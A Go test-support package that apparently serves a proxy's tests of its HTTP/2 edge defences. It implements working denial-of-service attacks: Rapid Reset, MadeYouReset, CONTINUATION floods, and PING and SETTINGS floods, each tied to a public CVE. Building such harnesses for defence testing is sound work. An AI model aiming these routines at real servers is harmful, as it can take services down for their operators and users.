// Package h2attack is a raw HTTP/2 client for tests of the data plane's
// edge defences: it writes frames with golang.org/x/net/http2's Framer
// (rapid reset, CONTINUATION, PING and SETTINGS floods, stream floods) on a
// TLS (ALPN h2) or h2c connection and records what the server answers. Used
// by dataplane/proxy's unit tests and test/e2e; never by production code.
package h2attack

import (
	"bytes"
	"crypto/tls"
	"errors"
	"net"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Conn is one attacking connection. Frames are written by the caller's
// goroutine; a reader goroutine records the server's frames.
type Conn struct {
	conn      net.Conn
	w         *http2.Framer
	scheme    string
	authority string
	nextID    uint32
	written   int64 // bytes written so far

	mu       sync.Mutex
	settings []http2.Setting // the server's first SETTINGS
	connWin  uint32          // connection window increments received
	resets   map[http2.ErrCode]int
	goAway   *http2.ErrCode
	answers  int   // response HEADERS received
	readErr  error // why the reader stopped
	done     chan struct{}
	gotFirst chan struct{} // closed at the server's first SETTINGS
	once     sync.Once
}

// Dial opens an HTTP/2 connection to addr: TLS with ALPN h2 when tc is
// set, h2c with prior knowledge otherwise. It writes the preface and an
// empty SETTINGS frame and starts the reader.
func Dial(addr, authority string, tc *tls.Config) (*Conn, error) {
	raw, err := net.DialTimeout("tcp", addr, 5*time.Second)
	if err != nil {
		return nil, err
	}
	c := &Conn{conn: raw, scheme: "http", authority: authority, nextID: 1,
		resets: map[http2.ErrCode]int{}, done: make(chan struct{}), gotFirst: make(chan struct{})}
	if tc != nil {
		tc = tc.Clone()
		tc.NextProtos = []string{"h2"}
		t := tls.Client(raw, tc)
		t.SetDeadline(time.Now().Add(5 * time.Second))
		if err := t.Handshake(); err != nil {
			raw.Close()
			return nil, err
		}
		t.SetDeadline(time.Time{})
		if p := t.ConnectionState().NegotiatedProtocol; p != "h2" {
			raw.Close()
			return nil, errors.New("ALPN negotiated " + p + ", not h2")
		}
		c.conn, c.scheme = t, "https"
	}
	c.w = http2.NewFramer(countingWriter{c}, nil)
	if _, err := c.conn.Write([]byte(http2.ClientPreface)); err != nil {
		c.conn.Close()
		return nil, err
	}
	if err := c.w.WriteSettings(); err != nil {
		c.conn.Close()
		return nil, err
	}
	go c.read()
	return c, nil
}

type countingWriter struct{ c *Conn }

func (w countingWriter) Write(p []byte) (int, error) {
	n, err := w.c.conn.Write(p)
	w.c.written += int64(n)
	return n, err
}

func (c *Conn) read() {
	r := http2.NewFramer(nil, c.conn)
	defer close(c.done)
	defer c.once.Do(func() { close(c.gotFirst) })
	for {
		f, err := r.ReadFrame()
		c.mu.Lock()
		if err != nil {
			c.readErr = err
			c.mu.Unlock()
			return
		}
		switch f := f.(type) {
		case *http2.SettingsFrame:
			if !f.IsAck() && c.settings == nil {
				c.settings = []http2.Setting{}
				f.ForeachSetting(func(s http2.Setting) error { c.settings = append(c.settings, s); return nil })
				c.once.Do(func() { close(c.gotFirst) })
			}
		case *http2.WindowUpdateFrame:
			if f.StreamID == 0 {
				c.connWin += f.Increment
			}
		case *http2.RSTStreamFrame:
			c.resets[f.ErrCode]++
		case *http2.GoAwayFrame:
			code := f.ErrCode
			c.goAway = &code
		case *http2.HeadersFrame:
			c.answers++
		}
		c.mu.Unlock()
	}
}

// Close closes the connection.
func (c *Conn) Close() error { return c.conn.Close() }

// Written is the number of bytes written on the connection.
func (c *Conn) Written() int64 { return c.written }

// Ended reports whether the server closed the connection (or it failed).
func (c *Conn) Ended() bool {
	select {
	case <-c.done:
		return true
	default:
		return false
	}
}

// WaitEnded waits up to d for the server to close the connection.
func (c *Conn) WaitEnded(d time.Duration) bool {
	select {
	case <-c.done:
		return true
	case <-time.After(d):
		return false
	}
}

// Outcome is what the server answered so far.
type Outcome struct {
	Settings []http2.Setting
	ConnWin  uint32
	Resets   map[http2.ErrCode]int
	GoAway   *http2.ErrCode
	Answers  int
	ReadErr  error
}

func (c *Conn) Outcome() Outcome {
	c.mu.Lock()
	defer c.mu.Unlock()
	o := Outcome{Settings: c.settings, ConnWin: c.connWin, Resets: map[http2.ErrCode]int{}, GoAway: c.goAway, Answers: c.answers, ReadErr: c.readErr}
	for k, v := range c.resets {
		o.Resets[k] = v
	}
	return o
}

// ServerSettings waits for the server's first SETTINGS frame.
func (c *Conn) ServerSettings(d time.Duration) []http2.Setting {
	select {
	case <-c.gotFirst:
	case <-time.After(d):
	}
	return c.Outcome().Settings
}

// block is the HPACK header block of a GET for path.
func (c *Conn) block(path string, extra ...hpack.HeaderField) []byte {
	var buf bytes.Buffer
	e := hpack.NewEncoder(&buf)
	for _, f := range append([]hpack.HeaderField{{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: c.scheme},
		{Name: ":authority", Value: c.authority}, {Name: ":path", Value: path}}, extra...) {
		e.WriteField(f)
	}
	return buf.Bytes()
}

// Request opens a stream with a complete GET for path (END_STREAM) and
// returns its id.
func (c *Conn) Request(path string) (uint32, error) {
	id := c.nextID
	c.nextID += 2
	return id, c.w.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.block(path), EndStream: true, EndHeaders: true})
}

// RapidReset opens streams and resets each at once (CVE-2023-44487) until
// maxFrames frames were written, d elapsed or a write fails. It returns
// the streams opened.
func (c *Conn) RapidReset(path string, maxFrames int, d time.Duration) int {
	end := time.Now().Add(d)
	c.conn.SetWriteDeadline(end)
	defer c.conn.SetWriteDeadline(time.Time{})
	n := 0
	for frames := 0; frames+2 <= maxFrames && time.Now().Before(end); frames += 2 {
		id, err := c.Request(path)
		if err != nil {
			break
		}
		n++
		if c.w.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
			break
		}
	}
	return n
}

// MadeYouReset opens streams (a GET without END_STREAM) and makes the
// server reset each at once with a WINDOW_UPDATE of increment 0, a stream
// error (CVE-2025-8671), until maxFrames frames were written, d elapsed
// or a write fails. It returns the streams opened.
func (c *Conn) MadeYouReset(path string, maxFrames int, d time.Duration) int {
	end := time.Now().Add(d)
	c.conn.SetWriteDeadline(end)
	defer c.conn.SetWriteDeadline(time.Time{})
	n := 0
	for frames := 0; frames+2 <= maxFrames && time.Now().Before(end); frames += 2 {
		id := c.nextID
		c.nextID += 2
		if c.w.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.block(path), EndHeaders: true}) != nil {
			break
		}
		n++
		// The Framer refuses to write a zero increment: the frame by hand.
		if c.w.WriteRawFrame(http2.FrameWindowUpdate, 0, id, []byte{0, 0, 0, 0}) != nil {
			break
		}
	}
	return n
}

// ContinuationFlood opens a stream with HEADERS without END_HEADERS and
// then writes CONTINUATION frames that never end the block (CVE-2024-27316):
// each holds a fresh 16 KiB header field when withHeaders, else nothing.
// It stops when a write fails, maxBytes were written or d elapsed.
func (c *Conn) ContinuationFlood(path string, withHeaders bool, maxBytes int64, d time.Duration) {
	end := time.Now().Add(d)
	c.conn.SetWriteDeadline(end)
	defer c.conn.SetWriteDeadline(time.Time{})
	id := c.nextID
	c.nextID += 2
	if c.w.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.block(path), EndStream: true}) != nil {
		return
	}
	var frag []byte
	if withHeaders {
		var buf bytes.Buffer
		hpack.NewEncoder(&buf).WriteField(hpack.HeaderField{Name: "x-flood", Value: strings.Repeat("f", 16<<10-32), Sensitive: true})
		frag = buf.Bytes()
	}
	for c.written < maxBytes && time.Now().Before(end) {
		if c.w.WriteContinuation(id, false, frag) != nil {
			return
		}
	}
}

// PingFlood writes n PING frames (d at most, until a write fails).
func (c *Conn) PingFlood(n int, d time.Duration) int {
	return c.flood(n, d, func(i int) error { return c.w.WritePing(false, [8]byte{byte(i), byte(i >> 8)}) })
}

// SettingsFlood writes n SETTINGS frames (d at most, until a write fails).
func (c *Conn) SettingsFlood(n int, d time.Duration) int {
	return c.flood(n, d, func(int) error {
		return c.w.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535})
	})
}

func (c *Conn) flood(n int, d time.Duration, write func(int) error) int {
	end := time.Now().Add(d)
	c.conn.SetWriteDeadline(end)
	defer c.conn.SetWriteDeadline(time.Time{})
	i := 0
	for ; i < n && time.Now().Before(end); i++ {
		if write(i) != nil {
			break
		}
	}
	return i
}
